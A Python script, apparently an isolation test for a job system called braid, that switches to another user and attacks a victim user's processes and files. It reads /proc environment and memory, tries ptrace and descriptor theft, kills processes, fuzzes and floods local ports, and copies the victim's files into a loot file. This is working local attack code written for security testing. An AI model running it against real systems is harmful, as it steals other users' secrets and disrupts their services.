"""What a process of another user tries against a job on its host, with everything it can see.

    python stranger.py USER SECONDS VICTIM LOOT

Becomes USER. VICTIM is the user whose processes and files it is after; the ports are all that are
open. It keeps in the file LOOT whatever it could read, and prints one line of JSON: how often it
tried each thing, and what succeeded that must not. It knows nothing but what /proc tells everybody.
"""

import contextlib
import ctypes
import json
import os
import random
import signal
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PIDFD_OPEN, PIDFD_GETFD = 0x4206, 434, 438
LISTENING, MOST_BYTES = "0A", 1 << 20
VICTIM = int(sys.argv[3])
tries: Counter[str] = Counter()
successes: Counter[str] = Counter()


class Loot:
    """Everything that was read."""

    def __init__(self, path: str) -> None:
        self._file = open(path, "wb")  # noqa: SIM115

    def keep(self, what: str, data: bytes) -> None:
        if data:
            self._file.write(what.encode() + b"\n" + data + b"\n")
            self._file.flush()


def processes() -> Iterator[int]:
    """Those of the victim."""
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError, ValueError):
            if entry.stat().st_uid == VICTIM:
                yield int(entry.name)


def read_entries(pid: int, loot: Loot) -> None:
    """Of /proc: what would show memory, variables or descriptors."""
    folder = Path(f"/proc/{pid}")
    names = ["environ", "mem", "maps", "smaps", "auxv", "syscall", "stack", "pagemap", "io"]
    paths = [folder / name for name in names]
    for inner in ("fd", "map_files", "fdinfo", "task"):
        with contextlib.suppress(OSError):
            entries = list((folder / inner).iterdir())
            paths += entries if inner != "task" else [entry / "environ" for entry in entries]
    for path in paths:
        tries["proc"] += 1
        with contextlib.suppress(OSError):
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                data = os.read(handle, MOST_BYTES)
            finally:
                os.close(handle)
            if data:
                successes[f"proc/{path.name}"] += path.name not in ("io",)
                loot.keep(str(path), data)
    loot.keep(f"cmdline {pid}", (folder / "cmdline").read_bytes())  # everybody's


def touch(pid: int) -> None:
    """Signals, memory, tracing, descriptors."""
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        tries["signal"] += 1
        with contextlib.suppress(OSError):
            os.kill(pid, number)
            successes["signal"] += 1
    tries["ptrace"] += 1
    successes["ptrace"] += LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0
    buffer = ctypes.create_string_buffer(4096)
    local = struct.pack("QQ", ctypes.addressof(buffer), 4096)
    remote = struct.pack("QQ", 0x400000, 4096)
    tries["vm_readv"] += 1
    successes["vm_readv"] += LIBC.process_vm_readv(pid, local, 1, remote, 1, 0) > 0
    handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
    for number in range(3, 40):
        tries["getfd"] += 1
        successes["getfd"] += handle >= 0 and LIBC.syscall(PIDFD_GETFD, handle, number, 0) >= 0
    if handle >= 0:
        os.close(handle)


def listeners() -> Iterator[tuple[int, tuple[str, int]]]:
    for table, family, any_host in (
        ("tcp", socket.AF_INET, "127.0.0.1"),
        ("tcp6", socket.AF_INET6, "::1"),
    ):
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
                fields = line.split()
                if fields[3] == LISTENING:
                    yield family, (any_host, int(fields[1].split(":")[1], 16))


def words(challenge: bytes) -> list[bytes]:
    """What to say: nothing, noise, lengths that promise much, a greeting like a rank's with a proof
    that is made up, frames that only members send.
    """
    noise = random.randbytes(random.randrange(1, 400))
    body = random.randbytes(32) + struct.pack("<I", 0) + struct.pack("<II", 1, 3)
    hello = body + random.randbytes(16) + b"\x01" + random.randbytes(32)
    news = struct.pack("<BII", 7, 1, 4) + b"lies"
    return [
        b"",
        noise,
        b"\xff\xff\xff\x7f\x02" + noise,
        struct.pack("<IB", len(hello), 2) + hello,
        struct.pack("<IB", len(news), 9) + news + bytes(16),
        challenge,
        b"GET /metrics HTTP/1.1\r\n\r\n",
    ]


def knock(family: int, address: tuple[str, int], loot: Loot, held: list[socket.socket]) -> None:
    heard = b""
    for index in range(7):
        tries["connect"] += 1
        with contextlib.suppress(OSError), socket.socket(family) as knocker:
            knocker.settimeout(0.05)
            knocker.connect(address)
            heard = knocker.recv(4096) if index in (0, 3, 5) else heard
            knocker.sendall(words(heard)[index])
            loot.keep(f"port {address[1]}", heard + knocker.recv(65536))
    with contextlib.suppress(OSError):  # and one that stays and says nothing
        silent = socket.socket(family)
        silent.settimeout(0.05)
        held.append(silent)
        silent.connect(address)
        silent.sendall(b"\x20")


def flood(family: int, address: tuple[str, int], until: float) -> None:
    """Connections, as many as there is time for, each ended at once."""
    now = struct.pack("ii", 1, 0)
    while time.monotonic() < until:
        tries["flood"] += 1
        with contextlib.suppress(OSError), socket.socket(family) as knocker:
            knocker.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, now)
            knocker.setblocking(False)
            knocker.connect_ex(address)


def write_to_boxes() -> None:
    """Abstract sockets of braid, which anybody may write to."""
    for line in Path("/proc/net/unix").read_text().splitlines():
        if "@braid" not in line:
            continue
        name = "\0" + line.split("@", 1)[1]
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            tries["box"] += 1
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as knocker:
                knocker.setblocking(False)
                knocker.connect(name)
                knocker.send(random.randbytes(100))


def read_files(loot: Loot) -> None:
    """Of others, where programs leave things; and what can be opened to be written there."""
    for root in ("/dev/shm", "/tmp", "/run/user", "/home"):
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    if os.lstat(path).st_uid != VICTIM:
                        continue
                    tries["file"] += 1
                    with open(path, "rb") as file:
                        loot.keep(path, file.read(MOST_BYTES))
                with contextlib.suppress(OSError):
                    if os.lstat(path).st_uid != VICTIM:
                        continue
                    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
                    successes[f"write {path}"] += 1


def main() -> None:
    os.setgroups([])
    os.setgid(int(sys.argv[1]))
    os.setuid(int(sys.argv[1]))
    seconds, loot = float(sys.argv[2]), Loot(sys.argv[4])
    end = time.monotonic() + seconds
    held: list[socket.socket] = []
    while time.monotonic() < end:
        for pid in processes():
            with contextlib.suppress(OSError):
                read_entries(pid, loot)
                touch(pid)
        doors = list(listeners())
        for family, address in doors:
            knock(family, address, loot, held)
        for family, address in doors:
            flood(family, address, min(end, time.monotonic() + 0.2))
        write_to_boxes()
        read_files(loot)
        for silent in held[:-100]:
            silent.close()
        del held[:-100]
    worked = {what: number for what, number in successes.items() if number}
    print(json.dumps({"tries": tries, "successes": worked}))


if __name__ == "__main__":
    main()
